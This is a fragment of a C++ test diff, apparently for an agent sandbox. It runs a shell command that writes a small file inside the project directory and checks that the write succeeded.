+  auto write = run(build(b), {"/bin/sh", "-c", "printf x > '" + (project / "agent-wrote.txt").string() + "'"});
+  EXPECT_TRUE(write.success()) << write.stderr_data;
+  EXPECT_TRUE(fs::exists(project / "agent-wrote.txt"));
+}
+
+}  // namespace
